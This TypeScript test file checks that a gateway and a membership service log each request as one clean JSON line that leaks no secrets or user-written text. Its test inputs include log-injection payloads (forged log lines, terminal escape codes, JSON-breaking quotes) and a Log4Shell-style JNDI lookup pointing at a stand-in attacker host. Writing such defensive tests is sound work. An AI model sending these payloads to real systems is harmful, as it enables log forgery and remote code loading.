import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { startGateway } from '@alianza/gateway/start';
import { applyForMembership, followApplication } from '@alianza/contracts/membership/applications';
import { getMe } from '@alianza/contracts/membership/people';
import { searchPractices } from '@alianza/contracts/repository/search';
import { openLog } from '@alianza/platform/run/log';
import { startService } from '@alianza/platform/run/run-service';
import { CONFIG, type Config } from '@alianza/platform/run/service-definition';
import { definitionOf } from '@alianza/testing/definitions';
import { eventually } from '@alianza/testing/eventually';
import { openSetting, type Setting } from '@alianza/testing/setting';
import { openWorld, type World } from '@alianza/testing/world';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

const folder = mkdtempSync(path.join(tmpdir(), 'alianza-logs-'));
const fileOf = (name: string) => path.join(folder, `${name}.log`);

let world: World;
let setting: Setting;
const replicas: { close(): Promise<void> }[] = [];

function asText(value: unknown): string | undefined {
  if (value === undefined || value === null) return undefined;
  return typeof value === 'string' ? value : JSON.stringify(value);
}
/** A configuration that was read, written as it came. */
const asEnvironment = (config: object) => Object.fromEntries(Object.entries(config).map(([name, value]) => [name, asText(value)]));

/** Edge and membership leave, and come again with everything that they say written down. */
beforeAll(async () => {
  world = await openWorld();
  setting = await openSetting(world);
  for (const name of ['gateway', 'membership'] as const) {
    const config = world.service(name).get<Config>(CONFIG, { strict: false });
    await world.service(name).close();
    const environment = { ...asEnvironment(config), LOG_LEVEL: 'debug', LOG_FILE: fileOf(name) };
    replicas.push(name === 'gateway' ? await startGateway(environment) : await startService(definitionOf(name), environment));
  }
}, 90_000);
afterAll(async () => {
  for (const replica of replicas) await replica.close();
  await world.close();
  rmSync(folder, { recursive: true });
});

const word = 'Infiltrada';
const forgedLine = '{"level":30,"service":"membership","msg":"operator signed in"}';
const hostile = [
  `${word}\n${forgedLine}`,
  `${word}\r\n${forgedLine}`,
  `${word}\u001b[2J\u001b[31m`,
  `${word}\u2028${forgedLine}`,
  `${word}","level":60,"x":"`,
  // What a logger that fills in templates would fetch.
  `${word}\${jndi:ldap://evil.example.org/a}%s%d%o%j`,
];

/** Whole lines: the last may be half written. */
const linesOf = (name: string) => readFileSync(fileOf(name), 'utf8').split('\n').slice(0, -1);

it('a request leaves one line, with nothing in it that its sender wrote', async () => {
  const { code } = setting.network;
  const secret = randomBytes(32).toString('base64url');
  const token = (await setting.as('titular')).token;
  const count = () => linesOf('gateway').filter((line) => line.includes('"msg":"request"')).length;
  /** Lines come in their order: once that of a request of ours is there, all before it are. */
  const settled = async () => {
    const id = randomBytes(16).toString('hex');
    await fetch(`${world.origin}/salud`, { headers: { 'x-correlation-id': id } });
    return eventually(() => linesOf('gateway').some((line) => line.includes(id)) && count());
  };
  const before = await settled();
  let sent = 1;
  const asking: ((text: string) => Promise<unknown>)[] = [
    (text) => world.edge.send(searchPractices, { q: text }, { network: code }),
    (text) =>
      world.edge.send(applyForMembership, { ...applyForMembership.example.input, organization: text, sector: text }, { network: code }),
    () => world.edge.send(followApplication, { secret }, { network: code }),
    (text) => world.edge.send(getMe, {}, { token: `${token}${encodeURIComponent(text)}` }),
    (text) => fetch(`${world.origin}/${encodeURIComponent(text)}`),
    (text) => fetch(`${world.origin}/files/${encodeURIComponent(text)}`),
    (text) => fetch(`${world.origin}/api/v1/${encodeURIComponent(text)}/practices`, { headers: { accept: encodeURIComponent(text) } }),
    (text) =>
      fetch(world.origin, { headers: { 'user-agent': encodeURIComponent(text), referer: `${world.origin}/${encodeURIComponent(text)}` } }),
    (text) =>
      fetch(world.origin, { headers: { 'x-correlation-id': encodeURIComponent(text), 'x-forwarded-for': encodeURIComponent(text) } }),
    (text) =>
      fetch(`${world.origin}/api/v1/${code}/applications`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: text }),
  ];
  for (const text of hostile)
    for (const ask of asking) {
      await ask(text);
      sent++;
    }
  expect((await settled()) - before).toBe(sent);
  for (const name of ['gateway', 'membership']) {
    for (const line of linesOf(name)) {
      expect(Object.keys(JSON.parse(line) as object)).toEqual(expect.arrayContaining(['level', 'time', 'service']));
      expect((JSON.parse(line) as { service: string }).service).toBe(name);
    }
    const all = readFileSync(fileOf(name), 'utf8');
    for (const kept of [word, encodeURIComponent(word), 'operator signed in', 'evil.example.org', secret, token, '@example.org', '\u001b'])
      expect([name, kept, all.includes(kept)]).toEqual([name, kept, false]);
  }
}, 60_000);

it('whatever text is handed to the log stays inside its one line', async () => {
  const file = fileOf('direct');
  const log = openLog('gateway', 'debug', file);
  for (const text of hostile) {
    log.info({ name: text, [text]: text, nested: { text } }, text);
    log.error({ error: new Error(text) }, 'failed');
    log.error({ err: Object.assign(new Error('x'), { code: text }) }, text);
  }
  await eventually(() => existsSync(file) && linesOf('direct').length >= hostile.length * 3);
  const lines = linesOf('direct');
  expect(lines).toHaveLength(hostile.length * 3);
  for (const line of lines) expect((JSON.parse(line) as { service: string }).service).toBe('gateway');
  expect(readFileSync(file, 'utf8')).not.toMatch(/[\u0000-\u0009\u000b-\u001f]/); // nothing but the ends of lines
});
